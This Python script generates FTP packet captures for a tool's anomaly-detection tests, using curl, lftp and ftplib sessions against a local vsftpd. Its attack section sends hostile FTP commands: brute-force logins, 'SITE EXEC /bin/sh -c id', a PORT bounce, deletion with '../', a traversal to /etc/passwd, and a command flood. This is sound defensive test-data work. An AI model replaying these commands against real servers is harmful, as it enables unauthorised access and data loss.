#!/usr/bin/env python3
"""Generates the FTP sessions of crates/cli/tests/data/learn/*.pcap with real
clients (curl, lftp, python3 ftplib) against a real vsftpd on loopback.

    gen.py train N SEED | gen.py heldout N SEED | gen.py attack

Run by make_captures.sh, which starts vsftpd and tcpdump. Normal sessions
are drawn at random (seeded) from a mix of: anonymous and user logins,
LIST/NLST, passive and active downloads, uploads, a mistyped password
followed by the right one. Attacks: brute force, SITE EXEC, PORT bounce,
upload-then-delete, NOOP/CWD flood, path traversal.
"""
import ftplib
import io
import os
import random
import subprocess
import sys

HOST, PORT = "127.0.0.21", 2121
USER, PASSWORD = "ftplearn", "s3cret-Pass"
URL = f"ftp://{HOST}:{PORT}"
COUNTER = [0]


def unique(prefix):
    COUNTER[0] += 1
    return f"{prefix}-{os.getpid()}-{COUNTER[0]}.txt"


def run(cmd):
    try:
        subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
    except subprocess.TimeoutExpired:
        pass  # a stuck client is part of real traffic; go on


def ftplib_session(rnd):
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    anon = rnd.random() < 0.4
    if not anon and rnd.random() < 0.15:
        try:
            f.login(USER, "wrong-" + str(rnd.randint(0, 99)))  # a typo
        except ftplib.error_perm:
            pass
    if anon:
        f.login()
    else:
        f.login(USER, PASSWORD)
    f.set_pasv(rnd.random() < 0.7)
    if rnd.random() < 0.5:
        f.pwd()
    if rnd.random() < 0.3:
        f.sendcmd("TYPE I")
    if anon:
        if rnd.random() < 0.6:
            f.cwd("pub")
        for _ in range(rnd.randint(0, 2)):
            if rnd.random() < 0.5:
                f.nlst()
            else:
                f.retrlines("LIST", lambda _l: None)
        for _ in range(rnd.randint(0, 2)):
            name = rnd.choice(["readme.txt", "small.bin"])
            path = name if f.pwd().endswith("pub") else "pub/" + name
            f.retrbinary("RETR " + path, lambda _b: None)
    else:
        if rnd.random() < 0.5:
            f.retrlines("LIST", lambda _l: None)
        if rnd.random() < 0.5:
            f.retrbinary("RETR report.txt", lambda _b: None)
        for _ in range(rnd.randint(0, 2)):
            if rnd.random() < 0.5:
                f.cwd("/uploads")
                target = unique("up")
            else:
                target = "uploads/" + unique("up")
                f.cwd("/")
            f.storbinary("STOR " + target, io.BytesIO(b"data %d\n" % rnd.randint(0, 9999)))
        if rnd.random() < 0.3:
            f.nlst()
    if rnd.random() < 0.9:
        f.quit()
    else:
        f.close()


def curl_session(rnd):
    c = ["curl", "-s", "--max-time", "10"]
    if rnd.random() < 0.3:
        c += ["-P", "-"]  # active mode
    choice = rnd.randint(0, 4)
    if choice == 0:
        run(c + [URL + "/pub/"])
    elif choice == 1:
        run(c + [URL + "/pub/" + rnd.choice(["readme.txt", "small.bin"])])
    elif choice == 2:
        run(c + ["-u", f"{USER}:{PASSWORD}", URL + "/"])
    elif choice == 3:
        run(c + ["-u", f"{USER}:{PASSWORD}", URL + "/report.txt"])
    else:
        src = "/tmp/learnftp/upload-src.txt"
        with open(src, "w") as fh:
            fh.write("curl upload %d\n" % rnd.randint(0, 9999))
        run(c + ["-u", f"{USER}:{PASSWORD}", "-T", src, URL + "/uploads/" + unique("curl")])


def lftp_session(rnd):
    cmds = ["set net:max-retries 1", "set net:timeout 5"]
    if rnd.random() < 0.3:
        cmds.append("set ftp:passive-mode off")
    anon = rnd.random() < 0.4
    if anon:
        cmds += ["cd pub", "ls", "get readme.txt -o /dev/null"] if rnd.random() < 0.5 else ["ls pub"]
    else:
        choice = rnd.randint(0, 2)
        if choice == 0:
            cmds += ["ls"]
        elif choice == 1:
            cmds += ["get report.txt -o /dev/null"]
        else:
            src = "/tmp/learnftp/upload-src.txt"
            with open(src, "w") as fh:
                fh.write("lftp upload\n")
            cmds += ["cd uploads", f"put {src} -o {unique('lftp')}"]
    cmds.append("bye")
    login = ["-u", "anonymous,"] if anon else ["-u", f"{USER},{PASSWORD}"]
    run(["lftp", "-p", str(PORT)] + login + ["-e", "; ".join(cmds), HOST])


def normal(n, seed):
    rnd = random.Random(seed)
    with open("home/report.txt", "w") as fh:  # the attacks delete it
        fh.write("report\n")
    for _ in range(n):
        r = rnd.random()
        if r < 0.5:
            try:
                ftplib_session(rnd)
            except ftplib.all_errors:
                pass
        elif r < 0.8:
            curl_session(rnd)
        else:
            lftp_session(rnd)


def attacks():
    # 1. Brute force: many USER/PASS in one session.
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    for i in range(25):
        try:
            f.login(rnd_user(i), "guess%d" % i)
        except ftplib.error_perm:
            pass
    f.close()
    # 2. SITE EXEC (wu-ftpd's CVE-era command execution).
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    f.login()
    for cmd in ["SITE EXEC /bin/sh -c id", "SITE EXEC %p%p%p"]:
        try:
            f.sendcmd(cmd)
        except ftplib.all_errors:
            pass
    f.quit()
    # 3. PORT bounce: the data connection aimed at a third host's SMTP port.
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    f.login(USER, PASSWORD)
    try:
        f.sendcmd("PORT 10,9,8,7,0,25")
        f.sendcmd("RETR report.txt")
    except ftplib.all_errors:
        pass
    f.quit()
    # 4. Upload, then delete files (training never deletes).
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    f.login(USER, PASSWORD)
    f.cwd("/uploads")
    names = [unique("drop") for _ in range(3)]
    for n in names:
        f.storbinary("STOR " + n, io.BytesIO(b"payload\n"))
    for n in names + ["../report.txt"]:
        try:
            f.delete(n)
        except ftplib.all_errors:
            pass
    f.quit()
    # 6. Path traversal: a file outside every directory normal sessions use.
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    f.login()
    f.cwd("pub")
    try:
        f.retrbinary("RETR ../../../etc/passwd", lambda _b: None)
    except ftplib.all_errors:
        pass
    f.quit()
    # 5. Command flood.
    f = ftplib.FTP()
    f.connect(HOST, PORT, timeout=10)
    f.login()
    for i in range(300):
        f.sendcmd("NOOP" if i % 2 else "CWD /")
    f.quit()


def rnd_user(i):
    return ["admin", "root", "ftplearn", "test", "guest"][i % 5]


if __name__ == "__main__":
    mode = sys.argv[1]
    if mode == "attack":
        attacks()
    else:
        normal(int(sys.argv[2]), int(sys.argv[3]))
